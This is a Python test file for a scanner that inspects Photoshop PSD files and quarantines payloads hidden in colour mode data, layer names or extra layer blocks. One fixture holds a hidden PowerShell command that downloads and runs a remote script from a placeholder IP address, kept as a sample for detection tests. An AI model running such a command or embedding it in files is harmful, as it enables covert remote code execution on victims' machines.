"""A PSD's colour mode data and layer records are judged (agent/inspect/psd.py).

Adobe Photoshop File Formats, "Color Mode Data Section": a u32 length, then an indexed
image's 768-byte palette, a duotone's curves, or nothing for other modes. "Layer and Mask
Information Section": a u32 length, the layer info (u32 length, i16 layer count, the layer
records, then the channel image data), the global layer mask info and additional layer
information blocks (`8BIM`, key, u32 length, data). A layer record is its rectangle
(4 x i32), channel count (u16) and per channel an id (i16) and a data length (u32), `8BIM`,
blend key, opacity, clipping, flags, filler, then a u32-long extra data field (mask data,
blending ranges, a Pascal name, additional layer information).
"""

from __future__ import annotations

import base64
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIDE = 64  # pixels
INDEXED, RGB = 2, 3  # colour modes


def _psd(colour_mode_data: bytes, mode: int, layers: bytes = b"") -> bytes:
    """Header, the colour mode data, empty resources, `layers`, raw merged planes."""
    channels = 1 if mode == INDEXED else 3
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, channels, SIDE, SIDE, 8, mode)
    sections = struct.pack(">I", len(colour_mode_data)) + colour_mode_data + bytes(4)
    sections += struct.pack(">I", len(layers)) + layers
    return header + sections + struct.pack(">H", 0) + bytes(channels * SIDE * SIDE)


def _layer_section(name: bytes, global_info: bytes = b"") -> bytes:
    """One 8x8 layer (one raw channel) named `name`, then `global_info` after the layer info."""
    pascal = bytes([len(name)]) + name
    pascal += b"\x00" * (-len(pascal) % 4)  # padded to a multiple of 4
    extra = bytes(4) + bytes(4) + pascal  # no mask data, no blending ranges, the name
    channel_data = struct.pack(">H", 0) + bytes(64)  # raw compression, 8 x 8 bytes
    record = struct.pack(">4iH", 0, 0, 8, 8, 1) + struct.pack(">hI", 0, len(channel_data))
    record += b"8BIMnorm" + bytes([255, 0, 0, 0]) + struct.pack(">I", len(extra)) + extra
    info = struct.pack(">h", 1) + record + channel_data
    return struct.pack(">I", len(info)) + info + global_info


def _block(key: bytes, data: bytes) -> bytes:
    return b"8BIM" + key + struct.pack(">I", len(data)) + data


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_colour_mode_data_is_quarantined(kind: str) -> None:
    report = inspect_bytes("layout.psd", _psd(PAYLOADS[kind], RGB))
    assert report.verdict.value == "quarantine"
    assert "psd.payload_in_metadata" in {f.code for f in report.findings}


def test_an_indexed_images_palette_stays_clean() -> None:
    palette = bytes(range(256)) * 3  # all reds, then all greens, then all blues
    assert inspect_bytes("layout.psd", _psd(palette, INDEXED)).verdict.value == "clean"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_a_layer_name_is_quarantined(kind: str) -> None:
    layers = _layer_section(PAYLOADS[kind][:255])
    report = inspect_bytes("layout.psd", _psd(b"", RGB, layers))
    assert report.verdict.value == "quarantine"
    assert "psd.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_additional_layer_information_is_quarantined(kind: str) -> None:
    layers = _layer_section(b"Layer 1", bytes(4) + _block(b"zzzz", PAYLOADS[kind]))
    assert inspect_bytes("layout.psd", _psd(b"", RGB, layers)).verdict.value == "quarantine"


def test_an_ordinary_layer_stays_clean() -> None:
    layers = _layer_section(b"Background copy", bytes(4) + _block(b"lnsr", b"bgnd"))
    assert inspect_bytes("layout.psd", _psd(b"", RGB, layers)).verdict.value == "clean"
